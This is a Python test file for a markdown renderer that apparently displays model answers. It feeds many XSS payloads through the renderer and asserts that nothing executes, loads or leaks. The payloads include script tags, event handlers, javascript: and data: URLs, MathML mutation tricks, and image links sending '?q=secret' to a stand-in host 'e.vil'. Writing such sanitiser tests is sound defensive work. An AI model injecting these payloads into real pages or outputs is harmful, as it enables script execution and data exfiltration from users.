"""Whatever a model was talked into writing: nothing runs, nothing loads, nothing leaves without a click."""

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from apps.markdown import mathml, render
from tests.markdown.streams import events_of, html_of

ELEMENTS = mathml.ELEMENTS | {
    *("p", "h3", "h4", "h5", "h6", "blockquote", "ul", "ol", "li", "hr", "br", "strong", "em", "s", "code", "pre"),
    *("a", "span", "div", "figure", "figcaption", "button", "table", "thead", "tbody", "tr", "th", "td"),
}
ATTRIBUTES = mathml.ATTRIBUTES | {
    *("class", "href", "title", "target", "rel", "start", "data-lang", "data-copy", "type", "tabindex"),
    *("aria-label", "role", "scope"),
}


class _Auditor(HTMLParser):
    """Fails on any element, attribute or address that an answer has no business having."""

    def __init__(self) -> None:
        super().__init__()
        self.texts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ELEMENTS, tag
        for name, value in attrs:
            assert name in ATTRIBUTES, (tag, name)
            if name == "href":
                assert tag == "a"
                assert (value or "").lower().startswith(("https://", "http://", "mailto:")), value
        if tag == "a":
            assert dict(attrs)["rel"] == "noopener noreferrer nofollow"

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)


def audit(html: str) -> str:
    """Check the HTML; its text."""
    auditor = _Auditor()
    auditor.feed(html)
    auditor.close()
    return "".join(auditor.texts)


MARKUP = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//e.vil></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://e.vil/leak?q=1'>",
    "<svg onload=alert(1)><use href='data:image/svg+xml,x'/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<style>@import url(//e.vil)</style>",
    "<div style='background:url(//e.vil)'>x</div>",
    "<base href=//e.vil>",
    "<form action=//e.vil><input name=q><button>x</button></form>",
    "<button formaction=//e.vil>x</button>",
    "<meta http-equiv=refresh content='0;url=//e.vil'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x><link rel=stylesheet href=//e.vil>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='https://e.vil' ping='https://e.vil'>x</a>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?>",
    "<!DOCTYPE html>",
    "</pre></code></p><script>alert(1)</script>",
    "<p/onclick=alert(1)>x",
    "<x onfocus=alert(1) tabindex=1 autofocus>",
]
FRAMES = [
    "{}",
    "a {} b",
    "- {}",
    "> {}",
    "# {}",
    "| {} |\n|---|\n| {} |",
    "*{}*",
    "```html\n{}\n```",
    "```{}\nx\n```",
    "    {}",
]
FRAMES += [
    "`{}`",
    "[{}](https://x.y)",
    "![{}](https://x.y)",
    "[a](https://x.y '{}')",
    "[a]: https://x.y '{}'\n\n[a]",
    "<{}>",
]
FRAMES += [
    "${}$",
    "$$\n{}\n$$",
    "\\[\\text{{{}}}\\]",
    "$\\text{{{}}}$",
    "$\\mbox{{{}}}$",
    "$\\href{{{}}}{{x}}$",
    "$\\frac{{{}}}$",
]


@pytest.mark.parametrize("markup", MARKUP)
def test_markup_is_never_live_in_any_place(markup: str) -> None:
    for frame in FRAMES:
        text = frame.replace("{}", markup).replace("{{", "{").replace("}}", "}")
        html = render(text)
        audit(html)
        assert html_of(events_of([text])) == html


@pytest.mark.parametrize("markup", MARKUP)
def test_markup_is_shown(markup: str) -> None:
    assert audit(render(f"```\n{markup}\n```")).endswith(markup)


ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&#10;script:alert(1)",
    "java\\\nscript:alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "javascript&colon;alert(1)",
    "javascript%3Aalert(1)",
    "\x01javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "vbscript:x",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "blob:x.y/1",
    "//e.vil/x",
    "\\\\e.vil\\x",
    "/logout/",
    "?q=1",
    "http:javascript:alert(1)",
    "x:y",
]
LINKS = ["[a]({})", "[a](<{}>)", "![a]({})", "<{}>", "[a]: {}\n\n[a]", "[![b]({})]({})", "${}$", "$\\href{{{}}}{a}$"]


@pytest.mark.parametrize("address", ADDRESSES)
def test_only_web_and_mail_addresses_are_live(address: str) -> None:
    for link in LINKS:
        html = render(link.replace("{}", address))
        audit(html)
        assert "href" not in html, html


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://e.vil/?q=secret)",
        "![x][1]\n\n[1]: https://e.vil/?q=secret",
        "[![x](https://e.vil/?q=secret)](https://e.vil)",
        "![x](https://e.vil/?q=secret 'title')",
        "![](https://e.vil/?q=secret)",
        '![x](https://e.vil/"onload="alert(1))',
    ],
)
def test_no_picture_carries_the_answer_away_by_itself(text: str) -> None:
    html = render(text)
    assert "e.vil" in audit(html)
    assert "src=" not in html and "<img" not in html


def test_attributes_cannot_be_broken_out_of() -> None:
    for text in ['[a](https://x.y/"onclick="a)', "[a](https://x.y '\"onclick=\"a')", '```"onclick="a\nx\n```']:
        audit(render(text))


@given(
    st.lists(
        st.sampled_from([*MARKUP, *ADDRESSES, "](", "[", "`", "$", "$$\n", "\n", "|", "<", "\\text{", "}"]), max_size=12
    )
)
@settings(deadline=None, max_examples=200)
def test_mixtures_stay_harmless(parts: list[str]) -> None:
    audit(render("".join(parts)))
